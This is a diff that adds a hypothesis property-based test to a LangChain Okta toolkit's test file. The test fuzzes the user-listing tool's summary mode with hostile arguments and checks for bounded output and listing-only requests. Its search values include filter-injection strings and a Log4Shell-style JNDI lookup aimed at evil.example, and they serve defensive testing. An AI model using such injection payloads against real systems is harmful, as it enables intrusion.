@@ -15,6 +15,8 @@ from typing import Any
 from uuid import UUID
 
 import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
 from langchain_core.callbacks import BaseCallbackHandler
 from langchain_core.messages import ToolMessage
 from langchain_core.tools import BaseTool
@@ -185,6 +187,67 @@ def test_an_invalid_search_gets_oktas_explanation(call: Call) -> None:
 
     assert message.status == "error"
     assert "The search expression is invalid" in message.content
+
+
+STATUSES = ("STAGED", "ACTIVE", "DEPROVISIONED", "SUSPENDED", "active", "GONE", "")
+SEARCHES = (
+    'profile.department eq "Sales"',
+    '" or 1 eq 1 or "',
+    '") or (status pr',
+    "status pr) or (id pr",
+    "(((",
+    'profile.login sw ""',
+    "not status pr",
+    "${jndi:ldap://evil.example/a}",
+)
+SUMMARY_KEYS = {"matched", "complete", "by_status", "columns", "sample"}
+
+
+HOSTILE_SUMMARIES = st.fixed_dictionaries(
+    {"summary": st.just(True)},
+    optional={
+        "query": st.text(max_size=12),
+        "search": st.sampled_from(SEARCHES),
+        "status": st.sampled_from(STATUSES),
+        "limit": st.integers(min_value=-5, max_value=500),
+        "cursor": st.sampled_from(("", "00u1")),
+    },
+)
+
+
+def test_any_summary_arguments_get_a_small_answer_or_an_error_and_only_listings(
+    org: SandboxOrg, list_users: BaseTool
+) -> None:
+    outcomes: Counter[str] = Counter()
+
+    @settings(max_examples=150, derandomize=True, deadline=None, database=None)
+    @given(args=HOSTILE_SUMMARIES)
+    def check(args: dict[str, Any]) -> None:
+        since = len(org.requests)
+        tool_call = {"type": "tool_call", "id": "1", "name": "okta_list_users", "args": args}
+
+        message = list_users.invoke(tool_call)
+
+        assert message.status in ("success", "error")
+        assert message.content
+        outcomes[message.status] += 1
+        if message.status == "success":
+            shown = json.loads(message.content)
+            assert set(shown) == SUMMARY_KEYS
+            assert len(message.content.encode()) < SUMMARY_MAX_BYTES
+            assert shown["complete"] is True
+            assert shown["matched"] == sum(shown["by_status"].values())
+            if args.get("status"):
+                assert set(shown["by_status"]) <= {args["status"]}
+        for request in org.requests[since:]:
+            assert (request.method, request.path) == ("GET", USERS_PATH)
+            assert {name for name, _ in request.query} <= {"search", "filter", "limit", "after"}
+            assert dict(request.query)["limit"] == "200"
+
+    check()
+
+    assert outcomes["success"] >= 20, outcomes
+    assert outcomes["error"] >= 20, outcomes
 
 
 # -- the toolkit's limits ---------------------------------------------------------------------
